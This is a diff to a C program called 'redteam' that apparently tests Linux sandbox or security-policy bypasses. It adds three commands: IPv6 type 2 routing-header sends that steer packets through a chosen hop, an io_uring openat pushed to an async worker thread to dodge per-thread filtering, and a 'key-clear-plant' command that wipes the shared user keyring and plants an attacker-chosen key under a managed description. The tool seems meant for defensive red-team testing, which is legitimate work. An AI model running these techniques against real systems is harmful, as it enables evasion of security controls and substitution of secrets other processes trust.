@@ -11,6 +11,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <arpa/inet.h>
+#include <liburing.h>
 #include <linux/lwtunnel.h>
 #include <linux/netlink.h>
 #include <linux/rtnetlink.h>
@@ -309,7 +310,9 @@ static int seg6_route(const char *ifname, const char *dst, const char *segment)
  * carries: VIA is then the first hop, the packet's real destination on the wire.
  *   none: plain sendto;
  *   srr:  IPv4 IP_OPTIONS loose source route {VIA} (no capability needed);
- *   rthdr: IPv6 IPV6_RTHDR segment routing header {VIA} (no capability needed).
+ *   rthdr: IPv6 IPV6_RTHDR segment routing header {VIA} (no capability needed);
+ *   rthdr2: IPv6 type 2 routing header {VIA} as an IPV6_RTHDR control message of each sendmsg
+ *           (Mobile IPv6, built in; no capability needed).
  */
 static int udp_send(const char *how, const char *addr, int port, const char *via)
 {
@@ -355,14 +358,118 @@ static int udp_send(const char *how, const char *addr, int port, const char *via
 			return fail("rthdr: an IPv6 destination and segment", EINVAL);
 		if (setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, buf, sizeof(buf)) < 0)
 			return fail("setsockopt IPV6_RTHDR (segment routing header)", errno);
-	} else if (strcmp(how, "none")) {
+	} else if (strcmp(how, "none") && strcmp(how, "rthdr2")) {
 		return fail(how, EINVAL);
 	}
-	for (i = 0; i < 20; i++)
-		if (sendto(fd, "x", 1, 0, (struct sockaddr *)&ss, len) < 0)
-			return fail("sendto", errno);
+	if (!strcmp(how, "rthdr2")) {
+		/* struct rt2_hdr: the header, 4 reserved bytes, the one address. */
+		union {
+			char buf[CMSG_SPACE(24)];
+			struct cmsghdr align;
+		} ctl = {0};
+		struct cmsghdr *c = (struct cmsghdr *)ctl.buf;
+		unsigned char *rt = CMSG_DATA(c);
+		struct iovec iov = {"x", 1};
+		struct msghdr msg = {.msg_name = &ss,
+		                     .msg_namelen = len,
+		                     .msg_iov = &iov,
+		                     .msg_iovlen = 1,
+		                     .msg_control = ctl.buf,
+		                     .msg_controllen = sizeof(ctl.buf)};
+
+		c->cmsg_level = IPPROTO_IPV6;
+		c->cmsg_type = IPV6_RTHDR;
+		c->cmsg_len = CMSG_LEN(24);
+		rt[1] = 2; /* hdrlen */
+		rt[2] = 2; /* type 2 */
+		rt[3] = 1; /* segments left */
+		if (!v6 || inet_pton(AF_INET6, via, rt + 8) != 1)
+			return fail("rthdr2: an IPv6 destination and address", EINVAL);
+		for (i = 0; i < 20; i++)
+			if (sendmsg(fd, &msg, 0) < 0)
+				return fail("sendmsg with an IPV6_RTHDR control message", errno);
+	} else {
+		for (i = 0; i < 20; i++)
+			if (sendto(fd, "x", 1, 0, (struct sockaddr *)&ss, len) < 0)
+				return fail("sendto", errno);
+	}
 	printf("sent 20 datagrams to %s port %d%s%s\n", addr, port, via ? " via " : "", via ?: "");
 	return 0;
+}
+
+/* io_uring openat forced to an io-wq worker thread (IOSQE_ASYNC), then a read. */
+static int uring_open(const char *path)
+{
+	struct io_uring ring;
+	struct io_uring_sqe *sqe;
+	struct io_uring_cqe *cqe;
+	char buf[256];
+	ssize_t n;
+	int r, fd;
+
+	if ((r = io_uring_queue_init(4, &ring, 0)) < 0)
+		return fail("io_uring_queue_init", -r);
+	sqe = io_uring_get_sqe(&ring);
+	io_uring_prep_openat(sqe, AT_FDCWD, path, O_RDONLY, 0);
+	sqe->flags |= IOSQE_ASYNC;
+	io_uring_submit(&ring);
+	if ((r = io_uring_wait_cqe(&ring, &cqe)) < 0)
+		return fail("io_uring_wait_cqe", -r);
+	fd = cqe->res;
+	io_uring_cqe_seen(&ring, cqe);
+	if (fd < 0)
+		return fail("io_uring openat (async worker)", -fd);
+	n = read(fd, buf, sizeof(buf) - 1);
+	if (n < 0)
+		return fail("read", errno);
+	buf[n] = 0;
+	printf("%s", buf);
+	return 0;
+}
+
+#define KEY_SPEC_USER_KEYRING (-4)
+#define KEYCTL_CLEAR          7
+#define KEYCTL_SEARCH         10
+#define KEYCTL_READ           11
+
+/* A "user" key DESC = PAYLOAD in the caller's user keyring (root's is shared by every root). */
+static int key_add(const char *desc, const char *payload)
+{
+	long id =
+	    syscall(SYS_add_key, "user", desc, payload, strlen(payload), KEY_SPEC_USER_KEYRING);
+
+	if (id < 0)
+		return fail("add_key", errno);
+	printf("%ld\n", id);
+	return 0;
+}
+
+/* What a consumer does: find "user" DESC in the user keyring, read it. */
+static int key_read_desc(const char *desc)
+{
+	char buf[256];
+	long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", desc, 0), n;
+
+	if (id < 0)
+		return fail("keyctl search", errno);
+	n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof(buf) - 1);
+	if (n < 0)
+		return fail("keyctl read", errno);
+	buf[n < (long)sizeof(buf) - 1 ? n : (long)sizeof(buf) - 1] = 0;
+	printf("%s\n", buf);
+	return 0;
+}
+
+/*
+ * Key substitution: KEYCTL_CLEAR of the shared user keyring (write permission on the keyring
+ * only; no check of the keys it unlinks), then a key of the managed description with the
+ * attacker's payload in its place.
+ */
+static int key_clear_plant(const char *desc, const char *payload)
+{
+	if (syscall(SYS_keyctl, KEYCTL_CLEAR, KEY_SPEC_USER_KEYRING) < 0)
+		return fail("keyctl clear of the user keyring", errno);
+	return key_add(desc, payload);
 }
 
 int main(int argc, char **argv)
@@ -382,6 +489,14 @@ int main(int argc, char **argv)
 		return vm_read(atoi(argv[2]));
 	if (!strcmp(cmd, "getfd") && argc == 4)
 		return get_fd(atoi(argv[2]), atoi(argv[3]));
+	if (!strcmp(cmd, "key-add") && argc == 4)
+		return key_add(argv[2], argv[3]);
+	if (!strcmp(cmd, "key-read-desc") && argc == 3)
+		return key_read_desc(argv[2]);
+	if (!strcmp(cmd, "key-clear-plant") && argc == 4)
+		return key_clear_plant(argv[2], argv[3]);
+	if (!strcmp(cmd, "uring-open") && argc == 3)
+		return uring_open(argv[2]);
 	if (!strcmp(cmd, "handle") && argc == 3)
 		return by_handle(argv[2]);
 	if (!strcmp(cmd, "seg6") && argc == 5)
@@ -392,8 +507,12 @@ int main(int argc, char **argv)
 		return udp_send("srr", argv[2], atoi(argv[3]), argv[5]);
 	if (!strcmp(cmd, "udp") && argc == 6 && !strcmp(argv[4], "via-rthdr"))
 		return udp_send("rthdr", argv[2], atoi(argv[3]), argv[5]);
+	if (!strcmp(cmd, "udp") && argc == 6 && !strcmp(argv[4], "via-rthdr2-cmsg"))
+		return udp_send("rthdr2", argv[2], atoi(argv[3]), argv[5]);
 	fprintf(stderr, "usage: redteam anon-exec | anon-mprotect | execmod FILE | inject PID | "
-	                "vm-read PID | getfd PID FD | handle PATH | seg6 IF DST SEGMENT | udp ADDR "
-	                "PORT [via-srr|via-rthdr HOP]\n");
+	                "vm-read PID | getfd PID FD | handle PATH | uring-open PATH | key-add DESC "
+	                "PAYLOAD | key-read-desc DESC | key-clear-plant DESC PAYLOAD | seg6 IF DST "
+	                "SEGMENT | udp ADDR "
+	                "PORT [via-srr|via-rthdr|via-rthdr2-cmsg HOP]\n");
 	return 2;
 }
